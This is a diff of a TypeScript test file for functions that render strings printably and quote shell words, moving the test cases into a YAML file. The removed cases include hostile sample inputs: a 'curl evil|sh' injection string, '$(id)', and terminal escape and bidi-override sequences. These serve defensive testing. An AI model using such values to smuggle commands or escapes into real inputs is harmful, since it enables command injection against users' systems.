@@ -10,6 +10,7 @@ import { wordsOf } from "../../attacks/command/support/suggested-words.js";
 import { errorOf } from "../transport/failing.js";
 import { unseen, unseenCharacters } from "../../attacks/support/unseen.js";
 import { forAny } from "../../support/for-any.js";
+import { readCases } from "../../support/read-cases.js";
 
 it.each(["", "url", "project", "x".repeat(100_000)])("nearestName takes %j for none", (given) => {
   expect(nearestName(given, ["apiKey", "baseUrl", "timeout", "all"])).toBeUndefined();
@@ -65,21 +66,10 @@ describe("an error", () => {
   });
 });
 
-const asItIs = (text: string): [text: string, shown: string] => [text, text];
+const cases = readCases("../cases.yaml", import.meta.url);
 
 describe("printable", () => {
-  it.each([
-    ["\u001b]52;c;ZXZpbA==\u0007", String.raw`\u001b]52;c;ZXZpbA==\u0007`],
-    ["\u009b2J", String.raw`\u009b2J`],
-    ["\u007f\u0085\u0000", String.raw`\u007f\u0085\u0000`],
-    ["\u202eevil\u202c", String.raw`\u202eevil\u202c`],
-    ["\u2066\u2069\u061c\u200f", String.raw`\u2066\u2069\u061c\u200f`],
-    ["\u2028\u2029", String.raw`\u2028\u2029`],
-    ["\ud83d and \ude00", String.raw`\ud83d and \ude00`],
-    ["100 %\rdone", String.raw`100 %\u000ddone`],
-    ["one\r\ntwo", "one\ntwo"],
-    ...["one\n\ttwo\n", "Zürich, 東京, שלום, ✓ 😀", String.raw`C:\u001b`, ""].map(asItIs),
-  ])("shows %j as %j", (text, shown) => {
+  it.each<[text: string, shown: string]>(cases.printable)("shows %j as %j", (text, shown) => {
     expect(printable(text)).toBe(shown);
   });
 
@@ -122,17 +112,7 @@ it("printableData shows what is in names and texts at any depth, and leaves the 
 });
 
 describe("shellWord", () => {
-  it.each([
-    ...["run_1", "8f14e45f-ceea", "http://127.0.0.1:8080/api/v4", "a@b.example"].map(asItIs),
-    ["x; curl evil|sh", "'x; curl evil|sh'"],
-    ["it's", String.raw`'it'\''s'`],
-    ["", "''"],
-    ["~root", "'~root'"],
-    ["=ls", "'=ls'"],
-    ["$(id)", "'$(id)'"],
-    ["a\tb\nc", String.raw`'a\u0009b\u000ac'`],
-    ["\u001b[2J", String.raw`'\u001b[2J'`],
-  ])("quotes %j as %s", (word, quoted) => {
+  it.each<[word: string, quoted: string]>(cases.words)("quotes %j as %s", (word, quoted) => {
     expect(shellWord(word)).toBe(quoted);
   });
 
